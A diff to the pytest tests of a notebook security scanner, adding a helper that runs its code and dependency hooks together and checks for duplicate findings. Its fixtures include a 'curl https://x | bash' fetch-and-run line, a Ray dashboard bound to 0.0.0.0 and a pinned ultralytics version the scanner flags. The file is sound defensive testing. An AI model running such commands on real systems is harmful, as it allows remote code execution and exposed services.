@@ -10,7 +10,21 @@ from pathlib import Path
 import pytest
 
 from hooks._core.policy import Policy
+from hooks.deps.spec import SPEC as DEPS_SPEC
 from tests.code.helpers import notebook, scan_code
+from tests.scanning import findings_of
+
+
+def scan_both(directory: Path, text: str, name: str) -> list:  # type: ignore[type-arg]
+    """mlsec-code and mlsec-deps on one notebook, as `mlsec scan` runs them: mlsec-deps reads the
+    dependency files a notebook writes itself, so mlsec-code does not hand them on (no duplicates)."""
+    code = scan_code(directory, text, name)
+    path = directory / name
+    path.write_text(text)
+    # MLS416 (advisories not checked, or against old data) is about the advisory source, not the notebook.
+    deps = [f for f in findings_of(DEPS_SPEC, path, name, Policy(root=directory)) if f.rule_id != "MLS416"]
+    assert not {f.rule_id for f in code} & {f.rule_id for f in deps}, "a finding reported by both hooks"
+    return code + deps
 
 
 def places(findings: list) -> list[tuple[str, int | None, int]]:  # type: ignore[type-arg]
@@ -82,7 +96,7 @@ def test_writefile_requirements_shell_and_dockerfile_reach_their_hooks(tmp_path:
         "%%writefile start.sh\nray start --head --dashboard-host=0.0.0.0",
         "%%writefile config.yaml\nrun: curl https://x | bash",
     )
-    findings = scan_code(tmp_path, text, "nb.ipynb")
+    findings = scan_both(tmp_path, text, "nb.ipynb")
     assert places(findings) == [
         ("MLS321", 2, 3),
         ("MLS323", 4, 2),
@@ -217,5 +231,5 @@ def test_written_environment_files_and_appends_reach_the_deps_checks(tmp_path: P
         "%%writefile -a {out_dir}/requirements.txt\nultralytics==8.3.41\n",
         "%%writefile -a {out_dir}/notes.txt\nultralytics==8.3.41\n",
     )
-    blocking = [(f.rule_id, f.cell, f.line) for f in scan_code(tmp_path, text, "nb.ipynb") if f.severity.value != "low"]
+    blocking = [(f.rule_id, f.cell, f.line) for f in scan_both(tmp_path, text, "nb.ipynb") if f.severity.value != "low"]
     assert blocking == [("MLS402", 1, 6), ("MLS402", 2, 2)]
